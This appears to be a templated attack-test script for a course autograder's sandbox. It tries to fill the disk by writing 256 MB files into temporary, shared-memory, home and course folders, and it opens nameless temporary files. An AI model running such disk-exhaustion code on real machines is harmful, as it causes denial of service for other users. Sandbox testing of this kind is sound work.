"""Fills the disk wherever a file can be made."""
# attack: week=03 exercise=pyramid
import os
import tempfile

folders = ["/tmp", "/var/tmp", "/dev/shm", "@FOLDER@", "@COURSE@", ".", os.path.expanduser("~")]
for folder in folders:
    try:
        with open(f"{folder}/@MARK@", "wb") as file:
            for _ in range(256):
                file.write(bytes(1 << 20))
        print("filled", folder)
    except OSError as error:
        print("refused", error)
    try:
        descriptor = os.open(folder, os.O_TMPFILE | os.O_RDWR)
        print("wrote", os.write(descriptor, bytes(1 << 20)), "into a nameless file")
    except OSError as error:
        print("refused", error)
print(tempfile.mkdtemp(prefix="@MARK@"))
